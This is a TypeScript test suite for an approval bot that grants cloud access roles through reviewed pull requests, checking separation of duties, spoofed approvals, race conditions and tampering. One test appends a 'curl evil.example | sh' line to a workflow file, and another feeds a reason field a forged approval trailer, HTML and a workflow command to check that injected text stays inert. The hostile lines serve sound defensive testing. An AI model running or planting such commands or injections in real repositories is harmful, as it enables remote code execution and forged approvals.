import { Octokit } from "@octokit/rest";
import { createPrivateKey } from "node:crypto";
import { SignJWT } from "jose";
import { afterAll, beforeAll, expect, test } from "vitest";
import { git } from "../sandbox/players.ts";
import { accessRepo, seed, target, targetRepo, workflowPath } from "../sandbox/seed.ts";
import { access, infra, Play, requestText } from "./play.ts";

let play: Play;
// The make-believe company with one more role, which two people must approve, and with a stranger's App.
const roles = target.slice(target.indexOf("  operator:"));
const pair = roles.replace("operator:", "pair:").replace("    max_duration", "    approvals: 2\n    max_duration");
beforeAll(async () => {
  play = await Play.start({
    seed: {
      ...seed,
      apps: [{ slug: "helper", permissions: { pull_requests: "write", checks: "write" } }],
      repositories: seed.repositories.map((r) =>
        r.name === "access"
          ? { ...r, files: { ...r.files, "targets/aws-prod.yml": target + pair }, installed: ["countersign", "helper"] }
          : r,
      ),
    },
  });
});
/** The API as another App of the organization, with its own power to review and to post check runs. */
async function helper(): Promise<Octokit> {
  const { github, clock } = play.world;
  const app = github.apps.helper;
  if (!app) throw new Error("no App");
  const now = Math.floor(clock.now().getTime() / 1000);
  const jwt = await new SignJWT({ iss: String(app.id), iat: now - 10, exp: now + 300 })
    .setProtectedHeader({ alg: "RS256" })
    .sign(createPrivateKey(app.privateKey));
  const asApp = new Octokit({ auth: jwt, baseUrl: github.apiUrl });
  const installation_id = github.installationId(accessRepo, "helper") ?? 0;
  const { data } = await asApp.rest.apps.createInstallationAccessToken({ installation_id });
  return new Octokit({ auth: data.token, baseUrl: github.apiUrl });
}
afterAll(() => play.end());
const emailOf = (login: string) => `${login} <${play.world.player(login).email}>`;

test("an owner's approval merges and grants", async () => {
  const ask = await play.grant();
  expect(await play.use(ask)).toBe("released");
});

test("C19: who pushed last does not approve, another owner does", async () => {
  const ask = await play.ask();
  const head = await play.world.player("bob").push(ask.branch, { [ask.path]: requestText({ bucket: "acme-other" }) });
  await play.settle();
  await play.review("bob", ask);
  expect(await play.merged(ask)).toBe(false);
  expect((await play.check(head)).summary).toMatch(/bob approved, but .*does not count/);
  expect(await play.use(ask)).toBe("authorization_pending");
  await play.review("carol", ask);
  expect(await play.merged(ask)).toBe(true);
});

test("C19: a co-author of a commit does not approve", async () => {
  const ask = await play.ask({ message: `Ask\n\nCo-authored-by: ${emailOf("bob")}` });
  await play.review("bob", ask);
  expect(await play.merged(ask)).toBe(false);
  expect((await play.check(ask.head)).summary).toContain("author or co-author");
});

test("C19: the author of a commit does not approve, whoever pushed it", async () => {
  const ask = await play.ask({ author: { name: "bob", email: play.world.player("bob").email } });
  await play.review("bob", ask);
  expect(await play.merged(ask)).toBe(false);
});

test("C19: the committer of a commit does not approve", async () => {
  const ask = await play.ask();
  const head = await play.amend(ask, "bob");
  await play.review("bob", ask);
  expect(await play.merged(ask)).toBe(false);
  expect((await play.check(head)).summary).toContain("bob approved, but is committer of a commit here");
  expect(await play.use(ask)).not.toBe("released");
});

test("C19: who pushed last does not approve, also where the commit says that somebody else wrote it", async () => {
  const ask = await play.ask();
  const head = await play.amend(ask, "alice", "bob");
  await play.review("bob", ask);
  expect(await play.merged(ask)).toBe(false);
  expect((await play.check(head)).summary).toContain("bob approved, but made the last push");
});

test("C23: the approval of an App does not count", async () => {
  const ask = await play.ask();
  const app = await helper();
  await app.rest.pulls.createReview({ ...access, pull_number: ask.number, event: "APPROVE" });
  await play.settle();
  expect(await play.merged(ask)).toBe(false);
  expect((await play.check(ask.head)).summary).toContain("is a bot and no person: does not count");
  expect(await play.use(ask)).not.toBe("released");
});

test("C31: another App's check run of our name and colour merges nothing and grants nothing", async () => {
  const ask = await play.ask();
  const app = await helper();
  await app.rest.checks.create({
    ...access,
    name: "countersign",
    head_sha: ask.head,
    status: "completed",
    conclusion: "success",
  });
  await play.settle();
  expect(await play.merged(ask)).toBe(false);
  await play.mergeByHand(ask);
  expect(await play.quarantined(ask.path)).toBe("no_decision");
  expect(await play.use(ask)).not.toBe("released");
});

test("C24: a role that wants two approvals wants two people", async () => {
  const ask = await play.ask({ role: "pair" });
  await play.review("bob", ask);
  await play.review("bob", ask);
  expect(await play.merged(ask)).toBe(false);
  expect((await play.check(ask.head)).summary).toContain("1 of 2 approved");
  await play.review("mallory", ask);
  expect(await play.merged(ask)).toBe(false);
  await play.review("carol", ask);
  expect(await play.merged(ask)).toBe(true);
  const granted = (await play.ledger()).findLast((e) => e.type === "granted" && e.path === ask.path);
  expect(granted?.type === "granted" && granted.approved_by.map((a) => a.login)).toEqual(["bob", "carol"]);
});

test("C24: of two approvals one that was withdrawn is none, and an older one does not come back", async () => {
  const ask = await play.ask({ role: "pair" });
  await play.review("bob", ask);
  const review = await play.review("bob", ask);
  const { rest } = play.world.player("root").api;
  await rest.pulls.dismissReview({ ...access, pull_number: ask.number, review_id: review, message: "a mistake" });
  await play.settle();
  await play.review("carol", ask);
  expect(await play.merged(ask)).toBe(false);
  expect((await play.check(ask.head)).summary).toContain("bob had a review, but it was dismissed");
});

test("C20: a commit of nobody's account denies, whoever approves", async () => {
  const ask = await play.ask({ author: { name: "x", email: "nobody@nowhere.example" } });
  await play.review("bob", ask);
  await play.review("carol", ask);
  expect(await play.merged(ask)).toBe(false);
  expect((await play.check(ask.head)).conclusion).toBe("failure");
});

test("C21: an approval of an older commit does not count after a push", async () => {
  const ask = await play.ask({ draft: true });
  await play.review("bob", ask);
  const head = await play.world.player("alice").push(ask.branch, { [ask.path]: requestText({ bucket: "acme-more" }) });
  await play.ready(ask);
  expect(await play.merged(ask)).toBe(false);
  expect((await play.check(head)).summary).toContain(`for commit ${ask.head.slice(0, 7)}`);
});

test("C21: a forced push after the approval takes it away, and one back to the approved commit by an owner as well", async () => {
  const ask = await play.ask({ draft: true });
  await play.review("bob", ask);
  const head = await play.amend(ask, "alice");
  await play.ready(ask);
  expect(await play.merged(ask)).toBe(false);
  expect((await play.check(head)).summary).toContain(`for commit ${ask.head.slice(0, 7)}`);
  const dir = await play.world.player("bob").clone();
  await git(dir, "fetch", "-q", "origin", ask.head);
  await git(dir, "push", "-q", "--force", "origin", `${ask.head}:refs/heads/${ask.branch}`);
  await play.settle();
  expect(await play.merged(ask)).toBe(false);
  expect((await play.check(ask.head)).summary).toContain("bob approved, but made the last push");
  expect(await play.use(ask)).not.toBe("released");
});

test("C21: a push between decision and merge stops the merge", async () => {
  const ask = await play.ask();
  let pushed = false;
  const undo = play.world.github.intercept({
    before: async ({ method, path }) => {
      if (method !== "PUT" || !path.endsWith(`/pulls/${ask.number}/merge`) || pushed) return undefined;
      pushed = true;
      await play.world.player("alice").push(ask.branch, { [ask.path]: requestText({ bucket: "acme-smuggled" }) });
      return undefined;
    },
  });
  await play.review("bob", ask);
  undo();
  await play.settle();
  expect(pushed).toBe(true);
  expect(await play.merged(ask)).toBe(false);
  expect(await play.use(ask)).toBe("authorization_pending");
});

test("C22: a pull request to another base is denied, and so is one that was retargeted; the way back is said", async () => {
  const root = play.world.player("root");
  const main = await root.api.rest.git.getRef({ ...access, ref: "heads/main" });
  await root.api.rest.git.createRef({ ...access, ref: "refs/heads/release", sha: main.data.object.sha });
  const ask = await play.ask();
  await play.world.player("alice").api.rest.pulls.update({ ...access, pull_number: ask.number, base: "release" });
  await play.settle();
  const other = await play.ask({ base: "release" });
  for (const one of [ask, other]) {
    await play.review("bob", one);
    expect(await play.merged(one)).toBe(false);
    const { conclusion, summary } = await play.check(one.head);
    expect(conclusion).toBe("failure");
    expect(summary).toContain("It goes to release, not to the default branch main: change its base.");
    await play.mergeByHand(one);
    expect(await play.use(one)).not.toBe("released");
  }
});

test("C22: what is approved on another base is not what a retarget brings to main", async () => {
  const root = play.world.player("root");
  const path = play.path();
  // The other base holds a request already: on it alice's pull request shows one file, on main two.
  await root.push("train", { [path]: requestText({ bucket: "acme-hidden" }) }, { from: "origin/main" });
  const alice = play.world.player("alice");
  const name = play.name();
  const mine = play.path(name);
  await alice.clone();
  const head = await alice.push(name, { [mine]: requestText() }, { from: "origin/train" });
  const { data } = await alice.api.rest.pulls.create({ ...access, title: name, head: name, base: "train" });
  await play.settle();
  await play.review("bob", data);
  await alice.api.rest.pulls.update({ ...access, pull_number: data.number, base: "main" });
  await play.settle();
  expect(await play.merged(data)).toBe(false);
  expect((await play.check(head)).summary).toContain("before the plan that now stands was posted");
});

test("C25: who left the team before the merge does not count", async () => {
  const ask = await play.ask();
  play.world.github.change.removeTeamMember("acme", "cloud-owners", "bob");
  try {
    await play.review("bob", ask);
    expect(await play.merged(ask)).toBe(false);
    expect((await play.check(ask.head)).summary).toMatch(/bob approved, but is no owner/);
  } finally {
    play.world.github.change.setTeamMember("acme", "cloud-owners", "bob");
  }
});

test("C25: who leaves the team between merge and grant leaves no grant behind", async () => {
  const ask = await play.ask();
  const undo = play.world.github.intercept({
    after: ({ method, path, status }) => {
      if (method === "PUT" && path.endsWith(`/pulls/${ask.number}/merge`) && status === 200) {
        play.world.github.change.removeTeamMember("acme", "cloud-owners", "bob");
      }
      return undefined;
    },
  });
  try {
    await play.review("bob", ask);
    expect(await play.merged(ask)).toBe(true);
    expect(await play.quarantined(ask.path)).toBe("decision_differs");
    expect(await play.use(ask)).not.toBe("released");
  } finally {
    undo();
    play.world.github.change.setTeamMember("acme", "cloud-owners", "bob");
  }
});

test("C60: an approval given while the plan was being posted does not count, the next one does", async () => {
  const name = play.name();
  const path = play.path(name);
  const alice = play.world.player("alice");
  const head = await alice.push(name, { [path]: requestText() }, { from: "origin/main" });
  let number = 0;
  const undo = play.world.github.intercept({
    before: async ({ method, path: url }) => {
      if (method !== "POST" || !url.endsWith("/check-runs") || number === 0) return undefined;
      const pull = number;
      number = 0;
      await play.world.player("bob").api.rest.pulls.createReview({ ...access, pull_number: pull, event: "APPROVE" });
      return undefined;
    },
  });
  const { data } = await alice.api.rest.pulls.create({
    ...access,
    title: name,
    head: name,
    base: "main",
    draft: false,
  });
  number = data.number;
  await play.settle();
  undo();
  const ask = { number: data.number, head, branch: name, path };
  expect(await play.merged(ask)).toBe(false);
  expect((await play.check(head)).summary).toContain("before the plan");
  play.world.clock.skip(2);
  await play.review("bob", ask);
  expect(await play.merged(ask)).toBe(true);
});

test("C68: a workflow file that changes after the plan was posted asks for a new approval", async () => {
  const ask = await play.ask({ draft: true });
  await play.review("bob", ask);
  const { rest } = play.world.player("root").api;
  const old = await rest.repos.getContent({ ...infra, path: workflowPath });
  if (!("content" in old.data)) throw new Error("no file");
  const text = Buffer.from(old.data.content, "base64").toString();
  const content = Buffer.from(`${text}# curl evil.example | sh\n`).toString("base64");
  await rest.repos.createOrUpdateFileContents({
    ...infra,
    path: workflowPath,
    message: "x",
    sha: old.data.sha,
    content,
  });
  await play.ready(ask);
  expect(await play.merged(ask)).toBe(false);
  expect((await play.check(ask.head)).summary).toContain("before the plan that now stands was posted");
  play.world.clock.skip(2);
  await play.review("bob", ask);
  expect(await play.merged(ask)).toBe(true);
});

test("C57: a workflow file that changes between decision and merge leaves no grant", async () => {
  const ask = await play.ask();
  const { dir } = play.world.github.repository(targetRepo);
  const undo = play.world.github.intercept({
    before: async ({ method, path }) => {
      if (method !== "PUT" || !path.endsWith(`/pulls/${ask.number}/merge`)) return undefined;
      const { rest } = play.world.player("root").api;
      const sha = await git(dir, "rev-parse", `main:${workflowPath}`);
      const content = Buffer.from("on: workflow_dispatch\njobs: {}\n").toString("base64");
      await rest.repos.createOrUpdateFileContents({ ...infra, path: workflowPath, message: "x", sha, content });
      return undefined;
    },
  });
  const text = await git(dir, "show", `main:${workflowPath}`);
  await play.review("bob", ask);
  undo();
  expect(await play.merged(ask)).toBe(true);
  expect(await play.quarantined(ask.path)).toBe("no_decision");
  expect(await play.use(ask)).not.toBe("released");
  const sha = await git(dir, "rev-parse", `main:${workflowPath}`);
  const content = Buffer.from(`${text}\n`).toString("base64");
  const { rest } = play.world.player("root").api;
  await rest.repos.createOrUpdateFileContents({ ...infra, path: workflowPath, message: "x", sha, content });
  expect(await play.use(ask)).not.toBe("released");
});

test("an owner who asks for changes blocks until the same person approves", async () => {
  const ask = await play.ask();
  await play.review("carol", ask, "REQUEST_CHANGES");
  await play.review("bob", ask);
  expect(await play.merged(ask)).toBe(false);
  expect((await play.check(ask.head)).title).toContain("Changes requested");
  await play.review("carol", ask);
  expect(await play.merged(ask)).toBe(true);
});

test("C18: a draft is validated and planned, and never merged", async () => {
  const ask = await play.ask({ draft: true });
  await play.review("bob", ask);
  expect(await play.merged(ask)).toBe(false);
  expect((await play.check(ask.head)).summary).toContain("s3:DeleteBucket");
});

test("C11: a request together with anything else is refused with the way out", async () => {
  const path = play.path();
  const ask = await play.ask({ files: { [path]: requestText(), ".github/CODEOWNERS": "* @alice\n" } });
  await play.review("bob", ask);
  expect(await play.merged(ask)).toBe(false);
  expect((await play.check(ask.head)).annotations.map((a) => a.title)).toContain("CS4001");
});

test("C10: an edit of a granted request is refused", async () => {
  const granted = await play.grant();
  const ask = await play.ask({ files: { [granted.path]: requestText({ bucket: "acme-all" }) } });
  await play.review("bob", ask);
  expect(await play.merged(ask)).toBe(false);
  expect((await play.check(ask.head)).annotations.map((a) => a.title)).toContain("CS4002");
});

test("C10: a rename of a granted request, and a deletion together with an addition, are refused with the way out", async () => {
  const granted = await play.grant();
  const text = requestText();
  const renamed = await play.ask({ files: { [granted.path]: null, [play.path()]: text } });
  const swapped = await play.ask({ files: { [granted.path]: null, [play.path()]: "# nothing like it\n".repeat(40) } });
  for (const [ask, code, way] of [
    [renamed, "CS4003", "Leave the old file where it is, and add the new one with a reason of its own"],
    [swapped, "CS4001", "Delete the requests in a pull request of its own"],
  ] as const) {
    await play.review("bob", ask);
    expect(await play.merged(ask)).toBe(false);
    const { annotations, summary } = await play.check(ask.head);
    expect(annotations.map((a) => a.title)).toContain(code);
    expect(summary).toContain(way);
  }
  expect(await play.use(granted)).toBe("released");
  await play.mergeByHand(renamed);
  expect(await play.use(granted)).toBe("grant_revoked");
  expect((await play.ledger()).filter((e) => e.type === "granted" && e.pull_request === renamed.number)).toEqual([]);
});

test("C27: a review that is dismissed after the merge revokes nothing: the deletion of the file does", async () => {
  const ask = await play.ask();
  const review = await play.review("bob", ask);
  expect(await play.merged(ask)).toBe(true);
  const { rest } = play.world.player("root").api;
  await rest.pulls.dismissReview({ ...access, pull_number: ask.number, review_id: review, message: "too late" });
  await play.settle();
  expect(await play.use(ask)).toBe("released");
});

test("C62: hostile text in the reason stays one inert line in git and on the check", async () => {
  const reason = "x\\nApproved-by: root <b>@acme/cloud-owners</b> ::set-output name=a::b";
  const text = requestText().replace(/^reason: .*$/m, `reason: "${reason.replaceAll("\\n", " ")}"`);
  const path = play.path();
  const ask = await play.ask({ files: { [path]: text } });
  const { summary } = await play.check(ask.head);
  expect(summary).not.toContain("<b>");
  await play.review("bob", ask);
  expect(await play.merged(ask)).toBe(true);
  const { data } = await play.world.player("root").api.rest.repos.getCommit({ ...access, ref: "main" });
  expect(data.commit.message.split("\n").filter((line) => line.startsWith("Approved-by:"))).toEqual([
    "Approved-by: bob",
  ]);
});
